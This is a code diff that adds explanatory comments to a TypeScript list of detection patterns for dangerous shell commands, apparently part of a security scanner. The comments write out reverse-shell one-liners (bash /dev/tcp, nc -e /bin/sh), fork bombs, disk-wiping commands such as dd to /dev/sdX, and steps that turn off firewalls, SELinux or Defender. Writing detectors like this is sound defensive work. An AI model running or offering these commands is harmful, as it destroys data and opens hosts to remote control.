@@ -67,8 +67,9 @@ export const NETWORK_SEND =
 export const WARNING_CONTEXT =
   /\b(?:never|do\s+not|don't|dont|avoid|not\s+to)\s+(?:\w+\s+){0,2}(?:run|running|execute|executing|type|typing|paste|pasting|use|using|try)\b[^\n]{0,60}$/i;
 
-/** Fixed patterns: a match is a finding. */
+/** Fixed patterns: a match is a finding. Each entry is named and tested in command-patterns.test.ts. */
 export const COMMAND_PATTERNS: readonly CommandPattern[] = [
+  // mkfs on a block device: formats (erases) it
   {
     name: "MKFS_DEVICE",
     rule: "disk-wipe",
@@ -76,6 +77,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "critical",
   },
+  // dd writing to a disk device (of=/dev/sdX, nvme, mmcblk...)
   {
     name: "DD_TO_DEVICE",
     rule: "disk-wipe",
@@ -83,6 +85,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "critical",
   },
+  // shell redirection onto a disk device (> /dev/sda)
   {
     name: "REDIRECT_TO_DISK",
     rule: "disk-wipe",
@@ -91,6 +94,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "critical",
   },
+  // shred or wipefs on a disk device
   {
     name: "SHRED_DEVICE",
     rule: "disk-wipe",
@@ -98,6 +102,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "critical",
   },
+  // Windows format of a drive letter (format C:)
   {
     name: "FORMAT_DRIVE",
     rule: "disk-wipe",
@@ -105,6 +110,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "critical",
   },
+  // recursive delete of a Windows drive root, the Windows folder or the user profile
   {
     name: "WINDOWS_RECURSIVE_DELETE",
     rule: "recursive-delete",
@@ -113,6 +119,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "critical",
   },
+  // the classic bash fork bomb :(){ :|:& };:
   {
     name: "FORK_BOMB",
     rule: "fork-bomb",
@@ -120,6 +127,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "high",
   },
+  // a fork bomb with a named function: f() { f | f & }
   {
     name: "NAMED_FORK_BOMB",
     rule: "fork-bomb",
@@ -127,6 +135,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "high",
   },
+  // the Windows batch fork bomb %0|%0
   {
     name: "BATCH_FORK_BOMB",
     rule: "fork-bomb",
@@ -134,6 +143,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "high",
   },
+  // an interactive shell wired to bash's /dev/tcp (bash -i >& /dev/tcp/h/p 0>&1)
   {
     name: "DEV_TCP_INTERACTIVE",
     rule: "reverse-shell",
@@ -142,6 +152,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.97,
     severity: "critical",
   },
+  // any use of bash's /dev/tcp/host/port (also used to probe ports: medium)
   {
     name: "DEV_TCP",
     rule: "reverse-shell",
@@ -149,6 +160,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.6,
     severity: "medium",
   },
+  // netcat executing a shell for the remote side (nc -e /bin/sh)
   {
     name: "NETCAT_EXEC",
     rule: "reverse-shell",
@@ -157,6 +169,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.97,
     severity: "critical",
   },
+  // the named-pipe reverse shell (mkfifo, sh, nc)
   {
     name: "MKFIFO_SHELL",
     rule: "reverse-shell",
@@ -164,6 +177,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "critical",
   },
+  // socat connecting a socket to a program (exec:)
   {
     name: "SOCAT_EXEC",
     rule: "reverse-shell",
@@ -171,6 +185,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "critical",
   },
+  // Python, Perl, PHP or Ruby one-liners that connect a socket to a shell
   {
     name: "SCRIPT_SOCKET_SHELL",
     rule: "reverse-shell",
@@ -179,6 +194,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.95,
     severity: "critical",
   },
+  // PowerShell reverse shells build a Net.Sockets.TCPClient
   {
     name: "POWERSHELL_TCP_CLIENT",
     rule: "reverse-shell",
@@ -186,6 +202,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "high",
   },
+  // switches SELinux to permissive
   {
     name: "SETENFORCE_OFF",
     rule: "disable-security",
@@ -193,6 +210,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "high",
   },
+  // disables SELinux in its configuration
   {
     name: "SELINUX_DISABLED",
     rule: "disable-security",
@@ -200,6 +218,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.8,
     severity: "high",
   },
+  // flushes every firewall rule (iptables -F, nft flush ruleset)
   {
     name: "IPTABLES_FLUSH",
     rule: "disable-security",
@@ -207,6 +226,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.8,
     severity: "high",
   },
+  // turns the host firewall or macOS protections off (ufw, netsh, spctl, csrutil)
   {
     name: "FIREWALL_OFF",
     rule: "disable-security",
@@ -215,6 +235,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "high",
   },
+  // stops or disables a firewall, audit, AppArmor or endpoint-security service
   {
     name: "STOP_SECURITY_SERVICE",
     rule: "disable-security",
@@ -223,6 +244,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "high",
   },
+  // turns Microsoft Defender protections off
   {
     name: "DEFENDER_OFF",
     rule: "disable-security",
@@ -230,6 +252,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.9,
     severity: "high",
   },
+  // disables address-space layout randomisation
   {
     name: "ASLR_OFF",
     rule: "disable-security",
@@ -237,6 +260,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.8,
     severity: "high",
   },
+  // PowerShell with a base64-encoded command, a common way to hide a payload
   {
     name: "POWERSHELL_ENCODED",
     rule: "encoded-command",
@@ -245,6 +269,7 @@ export const COMMAND_PATTERNS: readonly CommandPattern[] = [
     score: 0.85,
     severity: "high",
   },
+  // adds an SSH key for persistent access (also done legitimately: low score)
   {
     name: "AUTHORIZED_KEYS_APPEND",
     rule: "persistence",
